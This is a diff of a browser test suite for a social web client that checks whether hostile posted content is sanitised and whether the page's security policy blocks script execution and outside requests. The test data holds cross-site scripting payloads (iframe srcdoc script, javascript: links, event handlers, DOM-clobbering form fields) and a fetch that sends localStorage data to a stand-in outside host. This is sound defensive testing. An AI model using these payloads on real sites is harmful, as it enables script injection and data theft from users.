@@ -22,7 +22,8 @@ CONTENTS = {
     "link of a blob": f"<a href='blob:https://{HOST}/1'>click me</a>",
     "link whose user name is a host": f"<a href='https://{HOST}@{EVIL}/'>{HOST}</a>",
     "handlers and style of a link": f"<a href='https://ok.example/' onclick='{RUN}' onmouseover='{RUN}' style='position:fixed;inset:0'>ok</a>",
-    "style": f"<style>body{{display:none}}*{{background:url(https://{EVIL}/s)}}</style><p style='background:url(https://{EVIL}/p);position:fixed;inset:0'>styled</p>",
+    "style": f"<style>body{{display:none}}*{{background:url(https://{EVIL}/s)}}</style>"
+             f"<p style='background:url(https://{EVIL}/p);position:fixed;inset:0'>styled</p>",
     "frames": f"<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><iframe src='https://{EVIL}/'></iframe>",
     "objects": f"<object data='https://{EVIL}/'></object><embed src='https://{EVIL}/'>",
     "form with the names of its own properties": f"<form action='https://{EVIL}/'><input name=childNodes><input name=nodeName><input name=nodeType>"
@@ -64,7 +65,8 @@ def contents(stage, check):
             note["summary"] = html[:200]
         kept.append(town.post("ben", note))
     check(f"the server keeps each of {len(CONTENTS)} hostile contents", len(CONTENTS) == 37 and all(kept))
-    for post in ({"type": "Article", "name": HANDLER, "to": [ana, PUBLIC]}, {"type": "Note", "content": "x", "inReplyTo": f"javascript:{RUN}", "to": [ana]},
+    for post in ({"type": "Article", "name": HANDLER, "to": [ana, PUBLIC]},
+                 {"type": "Note", "content": "x", "inReplyTo": f"javascript:{RUN}", "to": [ana]},
                  {"type": "Question", "content": HANDLER, "name": HANDLER, "to": [ana]}, {"type": HANDLER, "content": HANDLER, "to": [ana]},
                  {"type": "Create", "to": [ana], "object": {"type": "Note", "content": "url", "url": f"javascript:{RUN}", "to": [ana]}},
                  {"type": "Note", "content": HANDLER, "inReplyTo": f"{ana}/o/1", "to": [ana]}):
@@ -83,23 +85,28 @@ def contents(stage, check):
     page.eval("document.querySelectorAll('details').forEach(d => { d.open = true; })")
     page.browser.listen(1)
     check("nothing ran", not page.eval("window.pwned"))
-    check("nothing of another kind is in the page", page.eval(f"getComputedStyle(document.body).display !== 'none' && !document.querySelector({FOREIGN!r})"))
+    foreign = page.eval(f"getComputedStyle(document.body).display === 'none' || !!document.querySelector({FOREIGN!r})")
+    check("nothing of another kind is in the page", foreign is False)
     more = page.eval("[...document.querySelectorAll('main .content *')].flatMap(e => [...e.attributes].map(a => `${e.localName} ${a.name}`))"
                      ".filter(x => !['a href', 'a rel', 'a target'].includes(x))")
     check("only links have attributes", not more, f"{more}")
     targets = page.eval("[...new Set([...document.querySelectorAll('main a')].map(a => a.getAttribute('href')))]")
-    check("links go to http, https, mailto or a screen", all(target.startswith(("https://", "http://", "mailto:", "#/")) for target in targets), f"{targets}")
-    check("and to no address with a user name", not any("@" in target.removeprefix("#/@").split("?")[0] and not target.startswith(("#/", "mailto:")) for target in targets), f"{targets}")
+    outside = [target for target in targets if not target.startswith("#/")]
+    check("links go to http, https, mailto or a screen", all(target.startswith(("https://", "http://", "mailto:")) for target in outside), f"{outside}")
+    named = [target for target in outside if "@" in "".join(target.split("/")[2:3])]
+    check("and to no address with a user name", not named, f"{named}")
     check("the page is as wide as before", page.eval("document.documentElement.scrollWidth <= innerWidth"))
     check("what comes after a form is there", "text after a form" in page.text() and "deep down" in page.text())
-    check("a text in the other direction ends with itself", page.eval("[...document.querySelectorAll('.content')].every(e => getComputedStyle(e).unicodeBidi === 'isolate')"))
+    apart = page.eval("[...document.querySelectorAll('.content')].every(e => getComputedStyle(e).unicodeBidi === 'isolate')")
+    check("a text in the other direction ends with itself", apart)
     check("no dialog came up", not page.browser.happened("Page.javascriptDialogOpening"))
     stage.picture(page, "hostile")
     for place in ("Notices", "#/@ben", "#/@ana"):
         page.go(place)
         page.browser.listen(0.3)
         check(f"nothing ran in {place}", not page.eval("window.pwned"))
-    asked = {event["request"]["url"].split("/")[2] for event in page.browser.happened("Network.requestWillBeSent") if event["request"]["url"].startswith("http")}
+    urls = [event["request"]["url"] for event in page.browser.happened("Network.requestWillBeSent")]
+    asked = {url.split("/")[2] for url in urls if url.startswith("http")}
     check("nothing was asked of another host", asked == {HOST} and not stage.elsewhere.asked, f"{asked} {stage.elsewhere.asked}")
     check("the page is still this page", page.eval("location.host") == HOST)
 
@@ -108,14 +115,17 @@ def policy(stage, check):
     """What the policy holds if the page had a hole."""
     page = stage.member("ana")
     tries = {
-        "no handler runs": "(() => { const d = document.createElement('div'); try { d.setAttribute('onclick', 'window.hole = 1'); d.click(); } catch {} return !window.hole; })()",
+        "no handler runs": "(() => { const d = document.createElement('div'); try { d.setAttribute('onclick', 'window.hole = 1'); d.click(); } catch {}"
+                           " return !window.hole; })()",
         "no text becomes HTML": "(() => { try { document.createElement('div').innerHTML = '<b>x</b>'; return false; } catch { return true; } })()",
         "no text becomes code": "(() => { try { Function('return 1')(); return false; } catch { return true; } })()",
         "no second policy is made": "(() => { try { trustedTypes.createPolicy('x', {}); return false; } catch { return true; } })()",
         "no other host is asked": f"fetch('https://{OTHER}/?' + localStorage.length, {{mode: 'no-cors'}}).then(() => false, () => true)",
-        "no image is loaded": f"new Promise(done => {{ const i = new Image(); i.onload = () => done(false); i.onerror = () => done(true); i.src = 'https://{OTHER}/x.png'; }})",
-        "no script of another host is loaded": f"new Promise(done => {{ const s = document.createElement('script'); s.onload = () => done(false); s.onerror = () => done(true);"
-                                               f" try {{ s.src = 'https://{OTHER}/x.js'; document.body.append(s); }} catch {{ done(true); }} }})",
+        "no image is loaded": f"new Promise(done => {{ const i = new Image(); i.onload = () => done(false); i.onerror = () => done(true);"
+                              f" i.src = 'https://{OTHER}/x.png'; }})",
+        "no script of another host is loaded": "new Promise(done => { const s = document.createElement('script'); s.onload = () => done(false);"
+                                               f" s.onerror = () => done(true); try {{ s.src = 'https://{OTHER}/x.js'; document.body.append(s); }}"
+                                               " catch { done(true); } })",
         "no form is sent": f"(() => {{ const f = document.createElement('form'); f.action = 'https://{OTHER}/'; document.body.append(f); f.submit();"
                            f" return new Promise(done => setTimeout(() => done(location.host === '{HOST}'), 500)); }})()",
     }
@@ -155,7 +165,7 @@ def lost_lines(stage, check):
     page.click("main > form button[type=submit]", "Post")
     page.has("Posted.")
     check("the same text posts again later", town.total("cleo/outbox", "cleo") == before + 2)
-    page.eval("(async () => { const s = await import('/server.js'); await Promise.all([1, 2, 3].map(() => s.post({type: 'Note', content: 'thrice', to: [s.everybody]}))); })()")
+    page.eval("import('/server.js').then(s => Promise.all([1, 2, 3].map(() => s.post({type: 'Note', content: 'thrice', to: [s.everybody]}))))")
     check("three posts of one body at one moment are one", town.total("cleo/outbox", "cleo") == before + 3)
     page.send("Network.emulateNetworkConditions", offline=True, latency=0, downloadThroughput=-1, uploadThroughput=-1)
     page.settle()
@@ -181,7 +191,8 @@ def repeated(stage, check):
     page.press("like me", "Boost")
     page.wait("document.querySelectorAll('article [aria-pressed=true]').length === 0")
     path = note.removeprefix(f"https://{HOST}/users/")
-    check("a Like and a boost are taken back after a second one", town.total(f"{path}/likes", "cleo") == 0 and town.total(f"{path}/shares", "cleo") == 0)
+    left = [town.total(f"{path}/{kind}", "cleo") for kind in ("likes", "shares")]
+    check("a Like and a boost are taken back after a second one", left == [0, 0], f"{left}")
     for _ in range(2):
         town.post("cleo", {"type": "Block", "object": town.id("ben")})
     page.go("#/@ben")
@@ -203,7 +214,8 @@ def repeated(stage, check):
     block = town.post("cleo", {"type": "Block", "object": town.id("dan")})
     town.post("ben", {"type": "Note", "content": "after the block", "to": [town.id("cleo")]})
     page.go("Notices")
-    check("a Block that shortens the inbox loses no notice", "before the block" in page.text() and "after the block" in page.text() and "@dan" not in page.screen())
+    text = page.screen()
+    check("a Block that shortens the inbox loses no notice", "before the block" in text and "after the block" in text and "@dan" not in text)
     town.post("cleo", {"type": "Undo", "object": block})
     town.post("ben", {"type": "Note", "content": "after all", "to": [town.id("cleo")]})
     page.go("Notices")
